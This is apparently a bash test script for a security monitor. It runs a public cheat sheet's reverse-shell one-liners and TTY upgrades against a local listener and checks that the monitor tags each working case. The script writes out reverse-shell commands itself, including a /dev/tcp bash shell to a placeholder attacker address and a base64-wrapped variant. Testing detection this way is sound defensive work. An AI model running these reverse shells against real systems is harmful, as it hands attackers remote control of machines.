#!/bin/bash
# reverse-shell against a public cheat sheet (tests/data/revshells): every
# Linux one-liner run as an attacker runs it, typed into a shell (bash reads
# it from its stdin, so no argv holds it) and through a command injection
# (bash -c 'ONE-LINER'), and every TTY upgrade typed into a working reverse
# shell.  A case counts only when it works: its peer on 127.0.0.1 sends a
# command and gets the answer.  Then it is tagged when a reverse-shell line
# names its port (net.port, or the port in a tagged command line); a TTY
# upgrade when a shell other than the first is tagged with it.  Prints the
# rates by family and the misses, and fails below 95% of the working
# one-liners either way or 8 of 9 upgrades (SW_REVSHELL_STRICT=0: report
# only), or when the harness itself cannot work.
. "${LIVE_LIB:-$(dirname "$0")/lib.sh}"
need_root
DATA=${REVSHELLS:-$(cd "$(dirname "$0")/../data/revshells" && pwd)}
# Three minutes: run once per tests/run, in its first build, not again in
# distcheck's and the sanitizers' (the detection is the same code).
if [ "${SW_CORPUS_DONE:-}" = 1 ]; then
	echo "SKIP: the corpus ran in this suite's first build"
	exit 77
fi
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }

# The listeners' key and certificate, for openssl s_client.
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=peer -days 1 \
	-keyout "$TMP/peer.key" -out "$TMP/peer.crt" >/dev/null 2>&1 || fail "openssl req"

PEER_PID=
CASE_PID=
finish() {
	touch "$1.done"
	if [ -n "$CASE_PID" ]; then
		kill -KILL -- "-$CASE_PID" 2>/dev/null
		wait "$CASE_PID" 2>/dev/null
	fi
	# What a case left behind in its own session (perl -MIO forks away).
	pkill -KILL -f "$PORT" 2>/dev/null
	wait "$PEER_PID" 2>/dev/null
	CASE_PID=
}

# run NAME MODE PEER COMMAND [UPGRADE]: runs one case; sets WORKED and TAGGED.
run() {
	local name=$1 how=$2 peer=$3 cmd=$4 up=${5:-} base dir b64
	base=$TMP/$how-$name
	dir=$TMP/case-$how-$name
	mkdir -p "$dir"
	cp "$DATA/connect-back.c" "$dir/"
	cp "$TMP/peer.key" "$base.key"
	cp "$TMP/peer.crt" "$base.crt"
	python3 "$DATA/peer.py" "$base" "$peer" "SW$RANDOM" "$up" &
	PEER_PID=$!
	wait_until 10 test -s "$base.port" || fail "$name: the peer did not listen"
	PORT=$(cat "$base.port")
	b64=$(printf "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%s 0>&1'\n" "$PORT" | base64 -w0)
	cmd=${cmd//dead:beef:2::125c/::1}
	cmd=${cmd//10.0.0.1/127.0.0.1}
	cmd=${cmd//4242/$PORT}
	cmd=${cmd//B64/$b64}
	rm -f /tmp/f /tmp/s
	if [ "$how" = typed ]; then
		printf '%s\n' "$cmd" >"$dir/typed.sh"
		(cd "$dir" && exec setsid bash --norc -s <typed.sh >/dev/null 2>&1) &
	else
		(cd "$dir" && exec setsid bash -c "$cmd" </dev/null >/dev/null 2>&1) &
	fi
	CASE_PID=$!
	WORKED=0
	TAGGED=0
	if wait_until 8 test -e "$base.ok"; then
		WORKED=1
		if [ -n "$up" ]; then
			wait_until 5 eval '[ "$(upgraded "$PORT")" -ge 2 ]' && TAGGED=1
		else
			wait_until 5 eval '[ "$(tagged "$PORT")" -ge 1 ]' && TAGGED=1
		fi
	fi
	finish "$base"
}

rs='(.tags // [] | index("reverse-shell"))'
tagged() { count "$rs and ((.net.port // 0) == $1 or any(.argv[]?; contains(\"$1\")))"; }
# Shells tagged with the port: the first, and the one the upgrade started.
upgraded() {
	jq -r "select($rs and (.net.port // 0) == $1 and (.comm == \"sh\" or .comm == \"bash\" or .comm == \"dash\")) | .pid" "$OUT" |
		sort -u | wc -l
}

declare -A work tag
families=()
misses=()
start_sw
for how in typed injected; do
	while IFS=$'\t' read -r name peer cmd; do
		case $name in '' | '#'*) continue ;; esac
		fam=${name%%-*}
		run "$name" "$how" "$peer" "$cmd"
		[[ " ${families[*]} " == *" $fam "* ]] || families+=("$fam")
		work[$how/$fam]=$((${work[$how/$fam]:-0} + WORKED))
		tag[$how/$fam]=$((${tag[$how/$fam]:-0} + TAGGED))
		work[$how]=$((${work[$how]:-0} + WORKED))
		tag[$how]=$((${tag[$how]:-0} + TAGGED))
		if [ "$WORKED" = 0 ]; then
			misses+=("$how $name: did not work here")
		elif [ "$TAGGED" = 0 ]; then
			misses+=("$how $name: NOT TAGGED")
		fi
	done <"$DATA/oneliners.txt"
done
while IFS=$'\t' read -r name cmd; do
	case $name in '' | '#'*) continue ;; esac
	run "$name" tty tcp 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1' "$cmd"
	work[tty]=$((${work[tty]:-0} + WORKED))
	tag[tty]=$((${tag[tty]:-0} + TAGGED))
	if [ "$WORKED" = 0 ]; then
		misses+=("tty $name: did not work here")
	elif [ "$TAGGED" = 0 ]; then
		misses+=("tty $name: NOT TAGGED")
	fi
done <"$DATA/tty.txt"
stop_sw
check_stream

printf '%-10s %14s %14s\n' family typed injected
for fam in "${families[@]}"; do
	printf '%-10s %6s of %-5s %6s of %-5s\n' "$fam" "${tag[typed/$fam]:-0}" "${work[typed/$fam]:-0}" \
		"${tag[injected/$fam]:-0}" "${work[injected/$fam]:-0}"
done
for m in "${misses[@]}"; do echo "  $m"; done
echo "reverse shells tagged: typed ${tag[typed]:-0} of ${work[typed]:-0} working," \
	"injected ${tag[injected]:-0} of ${work[injected]:-0}, tty upgrades ${tag[tty]:-0} of ${work[tty]:-0}"
[ "${work[typed]:-0}" -ge 20 ] || fail "fewer than 20 one-liners worked: the harness is broken"
[ "${work[tty]:-0}" -ge 5 ] || fail "fewer than 5 upgrades worked: the harness is broken"
if [ "${SW_REVSHELL_STRICT:-1}" = 1 ]; then
	for how in typed injected; do
		[ $((tag[$how] * 100)) -ge $((work[$how] * 95)) ] || fail "$how: ${tag[$how]} of ${work[$how]}, below 95%"
	done
	[ "${tag[tty]}" -ge 8 ] || fail "tty upgrades: ${tag[tty]} of ${work[tty]}"
fi
pass "a public cheat sheet's reverse shells, typed, injected and upgraded"
